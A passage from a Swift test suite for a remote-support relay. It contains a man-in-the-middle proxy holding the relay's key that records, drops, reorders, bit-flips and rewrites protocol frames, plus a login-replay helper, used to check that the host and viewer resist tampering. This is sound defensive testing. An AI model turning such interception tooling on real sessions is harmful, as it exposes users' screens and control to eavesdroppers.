                let (host, hostOutput) = try Agents.agent(
                    ["host"] + trust + ["--code", code, "--source", "synthetic:scrolling-text"] + (target == "viewer" ? ["--accept", "full"] : []),
                    config: Folder(), environment: [:])
                defer { if host.isRunning { host.terminate() } }
                try await Agents.waitForExit(viewer, viewerOutput)
                try await Agents.waitForExit(host, hostOutput)

                let rewritten = proxy.connections.first { $0.role == target }?.frames(.toAgent).first { $0.type == 0x07 }
                #expect(rewritten?.change == "altered" && rewritten?.payload[16] == 2, "the proxy did not rewrite Paired: \(rewritten?.summary ?? "none")")
                if target == "host" {
                    #expect(hostOutput().contains("there is no terminal to ask you on, so they were refused"), "the host did not ask: \(hostOutput())")
                    #expect(!hostOutput().contains("they can view and control this screen"), "the host let the engineer in unasked: \(hostOutput())")
                    #expect(host.terminationStatus != 0, "\(hostOutput())")
                    #expect(viewerOutput().contains("The customer declined the session"), "\(viewerOutput())")
                    #expect(!viewerOutput().contains("Screen "), "the engineer saw the screen: \(viewerOutput())")
                } else {
                    // The relay's word reached the viewer, and the viewer still asks for the comparison.
                    #expect(viewerOutput().contains(", unattended)"), "\(viewerOutput())")
                    let sas = [viewerOutput(), hostOutput()].map { $0.firstMatch(of: /Security code: (\d{3} \d{3})  \(encrypted end to end; the/)?.output.1 }
                    #expect(sas[0] != nil && sas[0] == sas[1], "the viewer did not show the security code to compare: \(viewerOutput())")
                    #expect(viewer.terminationStatus == 0, "\(viewerOutput())")
                }
            }
        }
    }

    // MARK: - Helpers

    /// The support code a viewer printed.
    static func supportCode(_ output: () -> String) async throws -> String {
        var code: Substring?
        _ = await eventually(within: .seconds(20)) {
            code = output().firstMatch(of: /Support code: (\d{6})/)?.output.1
            return code != nil
        }
        guard let code else { throw TestFailure("the viewer printed no support code: \(output())") }
        return String(code)
    }

    /// A whole frame: type, UInt24 length, payload (PROTOCOL.md §2).
    static func frame(_ type: UInt8, _ payload: [UInt8]) -> [UInt8] {
        [type, UInt8(payload.count >> 16 & 0xFF), UInt8(payload.count >> 8 & 0xFF), UInt8(payload.count & 0xFF)] + payload
    }

    static func str16(_ text: String) -> [UInt8] {
        let bytes = Array(text.utf8)
        return [UInt8(bytes.count >> 8), UInt8(bytes.count & 0xFF)] + bytes
    }

    /// The token field of a ViewerAuth payload (PROTOCOL.md §5.1.4), as the proxy reads it.
    private static func token(inViewerAuth frame: SeenFrame) -> String? {
        guard frame.payload.count >= 2 else { return nil }
        let length = Int(frame.payload[0]) << 8 | Int(frame.payload[1])
        guard frame.payload.count >= 2 + length, length > 0 else { return nil }
        return String(decoding: frame.payload[2..<2 + length], as: UTF8.self)
    }
}

// MARK: - The proxy

/// Which way a frame crossed the proxy.
private enum ProxyLeg: Sendable, CustomStringConvertible {
    /// Agent → relay.
    case fromAgent
    /// Relay → agent (and what the proxy writes toward the agent).
    case toAgent

    var description: String { self == .fromAgent ? "agent → relay" : "relay → agent" }
}

/// One frame as the proxy read it (PROTOCOL.md §2).
private struct SeenFrame: Sendable {
    let leg: ProxyLeg
    let type: UInt8
    let payload: [UInt8]
    /// What the proxy did with it, when it did not just forward it as it came: `injected`,
    /// `dropped`, `held back`, `forwarded late`, `altered` (then the bytes are the altered ones).
    let change: String?

    var bytes: [UInt8] { OutsideAttackTests.frame(self.type, self.payload) }
    var summary: String {
        "\(self.change.map { "\($0) " } ?? "")\(self.leg) 0x\(String(self.type, radix: 16)) (\(self.payload.count) bytes)"
            + (ErrorFrame(self).map { " code \($0.code): \($0.text)" } ?? "")
    }
}

/// An Error (0x0B) or Bye (0x0A) read from its bytes: a `u16` code or reason, then a
/// `str16` text (PROTOCOL.md §5.1.10, §5.1.11).
private struct ErrorFrame {
    let code: Int
    let text: String

    init?(_ frame: SeenFrame) {
        guard [0x0A, 0x0B].contains(frame.type), frame.payload.count >= 4 else { return nil }
        self.code = Int(frame.payload[0]) << 8 | Int(frame.payload[1])
        self.text = String(decoding: frame.payload.dropFirst(4), as: UTF8.self)
    }
}

/// A change the proxy makes to the frames it forwards toward one agent. Sealed records
/// are counted from 0 (the Identity) in the order the relay forwards them.
private enum Tampering: Sendable {
    /// Drops Sealed record `index` and forwards the rest.
    case dropSealed(index: Int)
    /// Holds Sealed record `index` back and forwards it right after the next one.
    case swapSealed(index: Int)
    /// Flips one bit of Sealed record `index`'s ciphertext.
    case flipBitInSealed(index: Int)
    /// Flips one bit of the KeyCommit's commitment.
    case flipBitInKeyCommit
    /// Rewrites the mode byte of Paired (PROTOCOL.md §5.1.7): 1 attended, 2 unattended.
    case rewritePairedMode(UInt8)
}

/// One agent's connection through the proxy: what the agent presented and everything that
/// crossed, both ways, as the proxy read it inside TLS.
private final class InterceptedConnection: Sendable {
    private struct State {
        var agentKey: [UInt8]?
        var frames: [SeenFrame] = []
        var fromAgent: [UInt8] = []
        var toAgent: [UInt8] = []
        var problems: [String] = []
        /// Sealed records forwarded toward the agent so far, and one held back.
        var sealedToAgent = 0
        var held: [UInt8]?
        /// `host` or `viewer`, from the role byte of the agent's first frame, its Hello
        /// (PROTOCOL.md §5.1.1).
        var role: String?

        mutating func record(_ bytes: [UInt8], on leg: ProxyLeg, _ change: String? = nil) {
            if leg == .fromAgent, !self.frames.contains(where: { $0.leg == .fromAgent }), bytes[0] == 0x01, bytes.count > 6 {
                self.role = [1: "host", 2: "viewer"][bytes[6]]
            }
            self.frames.append(SeenFrame(leg: leg, type: bytes[0], payload: Array(bytes[4...]), change: change))
        }
    }

    private let state = Mutex(State())
    let agent: any Channel

    init(agent: any Channel) { self.agent = agent }

    /// The raw Ed25519 key of the agent's client certificate, if it presented one.
    var agentKey: [UInt8]? { self.state.withLock { $0.agentKey } }
    var frames: [SeenFrame] { self.state.withLock { $0.frames } }
    func frames(_ leg: ProxyLeg) -> [SeenFrame] { self.frames.filter { $0.leg == leg } }
    /// Every byte the proxy read on one leg, whole frames or not.
    func bytes(_ leg: ProxyLeg) -> [UInt8] { self.state.withLock { leg == .fromAgent ? $0.fromAgent : $0.toAgent } }
    var everything: [UInt8] { self.state.withLock { $0.fromAgent + $0.toAgent } }

    /// `host` or `viewer`, from the agent's Hello.
    var role: String? { self.state.withLock { $0.role } }

    /// The agent's frames up to and including its login (HostAuth or ViewerAuth).
    var loginBytes: [UInt8] {
        var bytes: [UInt8] = []
        for frame in self.frames(.fromAgent) {
            bytes += frame.bytes
            if [0x03, 0x04].contains(frame.type) { break }
        }
        return bytes
    }

    var summary: String {
        let (frames, problems, key) = self.state.withLock { ($0.frames, $0.problems, $0.agentKey) }
        let shown = frames.count > 12 ? frames.prefix(8).map(\.summary) + ["…"] + frames.suffix(4).map(\.summary) : frames.map(\.summary)
        return "\(self.role ?? "unknown agent") (key \(key.map { KeyFingerprint.of(rawPublicKey: Data($0)) } ?? "none")): "
            + shown.joined(separator: "; ") + (problems.isEmpty ? "" : " problems: \(problems)")
    }

    func presented(_ certificates: [NIOSSLCertificate]) {
        guard let der = certificates.first.flatMap({ try? $0.toDERBytes() }) else { return }
        // An Ed25519 subjectPublicKeyInfo (RFC 8410): SEQUENCE { SEQUENCE { OID 1.3.101.112 },
        // BIT STRING { 0 unused bits, the 32-byte key } }.
        let prefix: [UInt8] = [0x30, 0x2A, 0x30, 0x05, 0x06, 0x03, 0x2B, 0x65, 0x70, 0x03, 0x21, 0x00]
        guard let range = Data(der).range(of: Data(prefix)), range.upperBound + 32 <= der.count else { return }
        self.state.withLock { $0.agentKey = Array(der[range.upperBound..<range.upperBound + 32]) }
    }

    func read(_ bytes: ByteBuffer, on leg: ProxyLeg) {
        self.state.withLock {
            if leg == .fromAgent { $0.fromAgent += bytes.readableBytesView } else { $0.toAgent += bytes.readableBytesView }
        }
    }

    /// Records the frame the proxy writes of its own toward the agent.
    func injected(_ frame: [UInt8]) { self.state.withLock { $0.record(frame, on: .toAgent, "injected") } }

    /// Records a whole frame read on `leg` and returns what to write to the other side:
    /// the frame itself, or what `tampering` makes of it on its way to the agent.
    func forward(_ frame: [UInt8], on leg: ProxyLeg, tampering: Tampering?) -> [[UInt8]] {
        self.state.withLock { state in
            guard leg == .toAgent, let tampering else {
                state.record(frame, on: leg)
                return [frame]
            }
            var sealed: Int?
            if frame[0] == 0x49 {
                sealed = state.sealedToAgent
                state.sealedToAgent += 1
            }
            var altered = frame
            switch tampering {
            case .dropSealed(let index) where sealed == index:
                state.record(frame, on: leg, "dropped")
                return []
            case .swapSealed(let index) where sealed == index:
                state.record(frame, on: leg, "held back")
                state.held = frame
                return []
            case .swapSealed(let index) where sealed == index + 1:
                guard let held = state.held else { break }
                state.record(frame, on: leg)
                state.record(held, on: leg, "forwarded late")
                return [frame, held]
            case .flipBitInSealed(let index) where sealed == index:
                altered[4] ^= 0x01
                state.record(altered, on: leg, "altered")
                return [altered]
            case .flipBitInKeyCommit where frame[0] == 0x47 && frame.count > 5 && !state.frames.contains(where: { $0.change != nil }):
                altered[5] ^= 0x80
                state.record(altered, on: leg, "altered")
                return [altered]
            case .rewritePairedMode(let mode) where frame[0] == 0x07 && frame.count > 20:
                altered[20] = mode
                state.record(altered, on: leg, "altered")
                return [altered]
            default:
                break
            }
            state.record(frame, on: leg)
            return [frame]
        }
    }

    func note(_ problem: String) { self.state.withLock { $0.problems.append(problem) } }
}

/// The attacker of issue 12: a proxy with the relay's own certificate and key. It ends the
/// agents' TLS (asking for a client certificate, as the relay does, PROTOCOL.md §1.2), opens
/// TLS of its own to the relay, presenting `presenting`'s certificate or none, and forwards
/// whole frames both ways, recording each. Because it forwards only whole frames, a frame it
/// injects always lands at a frame boundary.
private final class KeyHoldingProxy: Sendable {
    private let listener: any Channel
    private let registry: Registry

    var port: Int { self.listener.localAddress!.port! }
    /// The agents' connections, in the order the proxy accepted them.
    var connections: [InterceptedConnection] { self.registry.connections.withLock { $0 } }

    private init(listener: any Channel, registry: Registry) {
        self.listener = listener
        self.registry = registry
    }

    static func start(in relay: TestRelay, presenting key: Curve25519.Signing.PrivateKey?) async throws -> KeyHoldingProxy {
        var serverConfiguration = TLSConfiguration.makeServerConfiguration(
            certificateChain: [.certificate(relay.server.certificate)], privateKey: .privateKey(relay.server.privateKey))
        serverConfiguration.minimumTLSVersion = .tlsv12
        serverConfiguration.applicationProtocols = [RelayProtocol.alpnToken]
        serverConfiguration.certificateVerification = .optionalVerification
        serverConfiguration.verifySignatureAlgorithms = [.ed25519]
        let serverContext = try NIOSSLContext(configuration: serverConfiguration)
        var clientConfiguration = TLSConfiguration.makeClientConfiguration()
        clientConfiguration.trustRoots = .certificates([relay.authority.certificate])
        clientConfiguration.applicationProtocols = [RelayProtocol.alpnToken]
        if let key {
            let (certificate, privateKey) = try ClientCertificate.material(for: key)
            clientConfiguration.certificateChain = [.certificate(certificate)]
            clientConfiguration.privateKey = .privateKey(privateKey)
        }
        let clientContext = try NIOSSLContext(configuration: clientConfiguration)
        let relayPort = relay.port
        let registry = Registry()
        let listener = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .childChannelInitializer { agent in
                let connection = InterceptedConnection(agent: agent)
                registry.add(connection)
                // The relay's side first, on the agent's event loop: both halves of a
                // connection run on one loop, so forwarding and injecting never interleave
                // inside a frame.
                return ClientBootstrap(group: agent.eventLoop)
                    .channelInitializer { upstream in
                        upstream.eventLoop.makeCompletedFuture {
                            try upstream.pipeline.syncOperations.addHandlers([
                                try NIOSSLClientHandler(context: clientContext, serverHostname: "localhost"),
                                FrameForwarder(connection, leg: .toAgent, partner: agent, registry: registry),
                            ])
                        }
                    }
                    .connect(host: "127.0.0.1", port: relayPort)
                    .flatMapThrowing { upstream in
                        let tls = NIOSSLServerHandler(context: serverContext) { certificates, promise in
                            connection.presented(certificates)
                            promise.succeed(.certificateVerified)
                        }
                        try agent.pipeline.syncOperations.addHandlers([tls, FrameForwarder(connection, leg: .fromAgent, partner: upstream, registry: registry)])
                    }
            }
            .bind(host: "127.0.0.1", port: 0).get()
        return KeyHoldingProxy(listener: listener, registry: registry)
    }

    /// Writes `frame` toward the agent of `connection`, between two forwarded frames.
    func inject(_ frame: [UInt8], into connection: InterceptedConnection) async throws {
        try await connection.agent.eventLoop.flatSubmit {
            connection.injected(frame)
            return connection.agent.writeAndFlush(ByteBuffer(bytes: frame))
        }.get()
    }

    /// From now on, changes the frames toward every agent of `role` (`host` or `viewer`)
    /// as `tampering` says.
    func arm(_ tampering: Tampering, toward role: String) {
        self.registry.tampering.withLock { $0[role] = tampering }
    }

    func close() async {
        try? await self.listener.close()
        for connection in self.connections { try? await connection.agent.close() }
    }

    /// The connections, shared between the listener's initializer and the proxy.
    private final class Registry: Sendable {
        let connections = Mutex<[InterceptedConnection]>([])
        let tampering = Mutex<[String: Tampering]>([:])
        func add(_ connection: InterceptedConnection) { self.connections.withLock { $0.append(connection) } }
    }

    /// Reads one side, cuts the stream into frames (4-byte header, PROTOCOL.md §2), records
    /// each and writes it whole to the other side; closes the other side at the end.
    private final class FrameForwarder: ChannelInboundHandler {
        typealias InboundIn = ByteBuffer
        private let connection: InterceptedConnection
        private let leg: ProxyLeg
        private let partner: any Channel
        private let registry: Registry
        private var buffer = ByteBuffer()
        private var lastWrite: EventLoopFuture<Void>?

        init(_ connection: InterceptedConnection, leg: ProxyLeg, partner: any Channel, registry: Registry) {
            self.connection = connection
            self.leg = leg
            self.partner = partner
            self.registry = registry
        }

        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            var bytes = self.unwrapInboundIn(data)
            self.connection.read(bytes, on: self.leg)
            self.buffer.writeBuffer(&bytes)
            while let header = self.buffer.getInteger(at: self.buffer.readerIndex, as: UInt32.self),
                self.buffer.readableBytes >= 4 + Int(header & 0xFF_FFFF)
            {
                let frame = self.buffer.readBytes(length: 4 + Int(header & 0xFF_FFFF))!
                let tampering = self.connection.role.flatMap { role in self.registry.tampering.withLock { $0[role] } }
                for outgoing in self.connection.forward(frame, on: self.leg, tampering: tampering) {
                    self.lastWrite = self.partner.writeAndFlush(ByteBuffer(bytes: outgoing))
                }
            }
            self.buffer.discardReadBytes()
        }

        func channelInactive(context: ChannelHandlerContext) {
            if self.buffer.readableBytes > 0 {
                self.connection.note("\(self.leg) ended inside a frame (\(self.buffer.readableBytes) bytes)")
                self.lastWrite = self.partner.writeAndFlush(self.buffer)
            }
            let partner = self.partner
            (self.lastWrite ?? context.eventLoop.makeSucceededVoidFuture()).whenComplete { _ in partner.close(promise: nil) }
        }

        func errorCaught(context: ChannelHandlerContext, error: any Error) {
            self.connection.note("\(self.leg): \(error)")
            context.close(promise: nil)
        }
    }
}

/// A connection of the proxy's own to the relay, on which it sends bytes it recorded and
/// reads the answer: HelloAck and then what the login earned.
private enum LoginReplay {
    private final class Inbox: Sendable {
        let bytes = Mutex<[UInt8]>([])
        let closed = Atomic(false)

        var frames: [SeenFrame] {
            let bytes = self.bytes.withLock { $0 }
            var frames: [SeenFrame] = []
            var offset = 0
            while bytes.count - offset >= 4 {
                let length = Int(bytes[offset + 1]) << 16 | Int(bytes[offset + 2]) << 8 | Int(bytes[offset + 3])
                guard bytes.count - offset >= 4 + length else { break }
                frames.append(SeenFrame(leg: .toAgent, type: bytes[offset], payload: Array(bytes[offset + 4..<offset + 4 + length]), change: nil))
                offset += 4 + length
            }
            return frames
        }
    }

    private final class Collector: ChannelInboundHandler {
        typealias InboundIn = ByteBuffer
        let inbox: Inbox
        init(_ inbox: Inbox) { self.inbox = inbox }
        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            let bytes = self.unwrapInboundIn(data)
            self.inbox.bytes.withLock { $0 += bytes.readableBytesView }
        }
        func channelInactive(context: ChannelHandlerContext) { self.inbox.closed.store(true, ordering: .relaxed) }
        func errorCaught(context: ChannelHandlerContext, error: any Error) { context.close(promise: nil) }
    }

    /// Sends `login` to the relay, presenting `key`'s certificate or none, and returns the
    /// frames the relay answered with until it closed the connection or answered the login.
    static func send(_ login: [UInt8], to relay: TestRelay, presenting key: Curve25519.Signing.PrivateKey?) async throws -> [SeenFrame] {
        var configuration = TLSConfiguration.makeClientConfiguration()
        configuration.trustRoots = .certificates([relay.authority.certificate])
        configuration.applicationProtocols = [RelayProtocol.alpnToken]
        if let key {
            let (certificate, privateKey) = try ClientCertificate.material(for: key)
            configuration.certificateChain = [.certificate(certificate)]
            configuration.privateKey = .privateKey(privateKey)
        }
        let context = try NIOSSLContext(configuration: configuration)
        let inbox = Inbox()
        let channel = try await ClientBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .channelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandlers([
                        try NIOSSLClientHandler(context: context, serverHostname: "localhost"), Collector(inbox),
                    ])
                }
            }
            .connect(host: "127.0.0.1", port: relay.port).get()
        defer { channel.close(promise: nil) }
        try await channel.writeAndFlush(ByteBuffer(bytes: login)).get()
        _ = await eventually(within: .seconds(10)) { inbox.closed.load(ordering: .relaxed) || inbox.frames.contains { $0.type != 0x02 } }
        return inbox.frames
    }
}

private extension [UInt8] {
    /// Whether `needle` occurs anywhere in these bytes (the proxy's recordings run to
    /// megabytes: a plain scan for the first byte, then a compare).
    func contains(bytesOf needle: [UInt8]) -> Bool {
        guard let first = needle.first, needle.count <= self.count else { return needle.isEmpty }
        return self.withUnsafeBufferPointer { haystack in
            needle.withUnsafeBufferPointer { needle in
                var index = 0
                while index <= haystack.count - needle.count {
                    if haystack[index] == first, memcmp(haystack.baseAddress! + index, needle.baseAddress!, needle.count) == 0 { return true }
                    index += 1
                }
                return false
            }
        }
    }
}
